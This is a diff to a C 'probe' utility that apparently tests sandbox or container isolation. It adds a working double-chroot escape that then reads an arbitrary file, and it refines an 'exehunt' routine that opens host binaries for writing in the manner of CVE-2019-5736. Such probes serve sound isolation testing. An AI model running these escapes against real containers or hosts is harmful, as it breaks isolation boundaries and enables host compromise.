@@ -11,6 +11,8 @@
  *   probe swap A B SECONDS    exchange A and B (renameat2 RENAME_EXCHANGE) as fast as it can
  *   probe ids                 real and effective uid, then whether setresuid(0, 0, 0) works
  *   probe alloc MIB           allocate and touch MIB mebibytes, then print "ok"
+ *   probe chrootesc PATH      the double-chroot escape (chroot into a subdirectory, climb out with
+ *                             .., chroot .) then read PATH
  *   probe exehunt SECONDS     watch /proc for processes whose /proc/PID/exe opens to a file that is
  *                             not in our root (the CVE-2019-5736 way to the host's binary)
  * Arguments are numbers in C syntax (0x.. for hex), up to 64 bits. */
@@ -61,10 +63,12 @@ static int exehunt(int seconds) {
       }
       opened++;
       struct stat a, b;
-      ssize_t n = readlink(path, target, sizeof target - 1);
+      char self[64]; /* the file we hold, named by our own fd: no race with the process exiting */
+      snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
+      ssize_t n = readlink(self, target, sizeof target - 1);
       target[n > 0 ? n : 0] = 0;
       if (fstat(fd, &a) == 0 && (n <= 0 || stat(target, &b) < 0 || a.st_dev != b.st_dev || a.st_ino != b.st_ino)) {
-        int w = open(path, O_WRONLY | O_CLOEXEC);
+        int w = open(self, O_WRONLY | O_CLOEXEC);
         printf("hit pid %d exe %s write %s\n", pid, target, w >= 0 ? "ok" : strerrorname_np(errno));
         if (w >= 0) close(w);
         hits++;
@@ -150,6 +154,21 @@ int main(int argc, char **argv) {
       memset(m, 1, 1 << 20);
     }
     return report(0);
+  }
+  if (!strcmp(cmd, "chrootesc") && argc >= 3) {
+    mkdir("/tmp/.esc", 0700);
+    int keep = open("/", O_RDONLY | O_DIRECTORY);
+    if (chroot("/tmp/.esc") < 0) return report(-1);
+    if (fchdir(keep) < 0) return report(-1); /* cwd is now outside the new root */
+    for (int i = 0; i < 64; i++) if (chdir("..") < 0) return report(-1);
+    if (chroot(".") < 0) return report(-1);
+    int fd = open(argv[2], O_RDONLY);
+    if (fd < 0) return report(-1);
+    char buf[256];
+    ssize_t n = read(fd, buf, sizeof buf - 1);
+    buf[n > 0 ? n : 0] = 0;
+    printf("ok %s", buf);
+    return 0;
   }
   if (!strcmp(cmd, "exehunt") && argc >= 3) return exehunt((int)num(argv[2]));
   fprintf(stderr, "probe: bad arguments\n");
